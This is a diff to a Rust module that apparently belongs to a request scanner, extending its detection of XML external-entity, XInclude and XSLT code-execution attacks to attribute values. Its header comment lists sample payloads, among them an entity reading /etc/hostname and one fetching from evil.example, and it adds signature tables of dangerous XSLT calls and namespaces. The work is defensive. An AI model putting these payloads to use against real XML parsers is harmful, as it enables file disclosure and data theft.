@@ -6,7 +6,7 @@
 //! definitions: `declaration.rs`.
 //!
 //! Fires: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>`, `<!ENTITY % d SYSTEM "http://evil.example/d">`,
-//! ten entities of ten references each, `<xi:include href="file:///..." parse="text"/>`, `php:function(` in a stylesheet.
+//! ten entities of ten references each, `<xi:include href="file:///..." parse="text"/>`, `php:function(` in a stylesheet, or in one attribute of XML in a body.
 //! Must not: `<!DOCTYPE html>`, the XHTML, SVG and property-list doctypes, a SOAP envelope, DocBook's relative chapters.
 //! Sources: XML 1.0 sections 2.8, 4.2 and 4.4; XInclude 1.1; XSLT 1.0 sections 2.6, 12.1 and 14; PHP's XSL extension.
 
@@ -42,6 +42,9 @@ static STYLESHEET: &[(&[u8], u8, &str)] = &[
 /// Judges one value.
 pub fn judge(value: &Value<'_>, hits: &mut Hits) {
     let bytes = value.bytes;
+    if value.place == Place::XmlAttr {
+        hits.extend(attribute_value(bytes));
+    }
     let Some(first) = memchr::memchr(b'<', bytes) else { return };
     let mut best = declarations(value);
     let mut offer = |found: Option<Hit>| {
@@ -67,6 +70,39 @@ pub fn judge(value: &Value<'_>, hits: &mut Hits) {
         hit.confidence = hit.confidence.min(45);
     }
     hits.extend(best);
+}
+
+/// What an attribute of XML in the body does by itself: the elements around it are other values.
+fn attribute_value(bytes: &[u8]) -> Option<Hit> {
+    #[rustfmt::skip]
+    static CALLS: &[(&[u8], u8, &str)] = &[
+        (b"php:function(", 92, "calls any PHP function"), (b"php:functionString(", 92, "calls any PHP function"),
+        (b"unparsed-text(", 82, "reads a file as text"),
+        (b"document('", 78, "reads another document"), (b"document(\"", 78, "reads another document"),
+        (b"system-property('xsl:", 56, "asks for the processor's name and version"),
+        (b"getRuntime(", 85, "calls Java's runtime"),
+    ];
+    #[rustfmt::skip]
+    static SPACES: &[(&[u8], u8, &str)] = &[
+        (b"http://www.w3.org/2001/XInclude", 62, "makes the parser include documents"),
+        (b"http://php.net/xsl", 66, "makes PHP functions callable from a stylesheet"),
+        (b"http://xml.apache.org/xalan/java", 70, "makes Java callable from a stylesheet"),
+        (b"http://xml.apache.org/xslt/java", 70, "makes Java callable from a stylesheet"),
+        (b"http://exslt.org/common", 40, "makes extensions of a stylesheet usable, among them one that writes files"),
+    ];
+    let space = SPACES.iter().find(|(uri, ..)| bytes.starts_with(uri));
+    if let Some((uri, confidence, what)) = space {
+        let technique = if uri.ends_with(b"XInclude") { "xinclude" } else { "xslt-code" };
+        let shown = uri.escape_ascii();
+        return Some(hit(technique, *confidence, 0..bytes.len(), format!("the namespace `{shown}` {what}")));
+    }
+    memchr::memchr(b'(', bytes)?;
+    CALLS.iter().find_map(|(call, confidence, what)| {
+        let at = memmem::find(bytes, call)?;
+        let shown = call.escape_ascii();
+        let why = format!("`{shown}` in an attribute of a stylesheet {what}");
+        Some(hit("xslt-code", *confidence, at..at + call.len(), why))
+    })
 }
 
 fn hit(technique: &'static str, confidence: u8, span: std::ops::Range<usize>, reason: String) -> Hit {
